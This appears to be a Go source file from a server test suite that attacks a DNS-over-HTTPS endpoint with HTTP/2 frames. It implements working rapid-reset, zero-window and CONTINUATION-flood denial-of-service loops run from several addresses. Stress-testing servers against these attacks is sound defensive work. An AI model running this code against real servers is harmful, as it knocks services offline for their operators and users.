package test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// This file has what attackers do with the frames of HTTP/2.

// http2 opens connections of HTTP/2, from each address one after the other, and
// does its worst on each until the server ends it.
func (s *siege) http2(ctx context.Context, worst func(*http2.Framer, uint32, []byte) error) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", servedAs}, {":path", "/dns-query?name=lesson.example"}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // to memory
	}
	way := s.overTLS(s.doh, "h2")
	for from := range besiegers {
		s.laid.Go(func() {
			for ctx.Err() == nil {
				c, err := way(ctx, from)
				if err != nil {
					continue // the handshake takes its time
				}
				s.doWorst(ctx, c, block.Bytes(), worst)
				c.Close()
			}
		})
	}
}

func (s *siege) doWorst(ctx context.Context, c net.Conn, header []byte, worst func(*http2.Framer, uint32, []byte) error) {
	go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
	defer context.AfterFunc(ctx, func() { c.Close() })()
	framer := http2.NewFramer(c, nil)
	_, err := io.WriteString(c, http2.ClientPreface)
	err = errors.Join(err, framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
	for id := uint32(1); err == nil && ctx.Err() == nil; id += 2 {
		err = worst(framer, id, header)
		s.tries.Add(1)
	}
}

// rapidReset asks and takes it back at once.
func rapidReset(f *http2.Framer, id uint32, header []byte) error {
	return errors.Join(windowless(f, id, header), f.WriteRSTStream(id, http2.ErrCodeCancel))
}

// windowless asks, and never opens a window for the answer.
func windowless(f *http2.Framer, id uint32, header []byte) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndStream: true, EndHeaders: true})
}

// continuation begins a header and never ends it.
func continuation(f *http2.Framer, id uint32, header []byte) error {
	if id == 1 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: header})
	}
	var more bytes.Buffer
	_ = hpack.NewEncoder(&more).WriteField(hpack.HeaderField{Name: "x-" + strconv.Itoa(int(id)), Value: strings.Repeat("x", 4000)}) // to memory
	return f.WriteContinuation(1, false, more.Bytes())
}
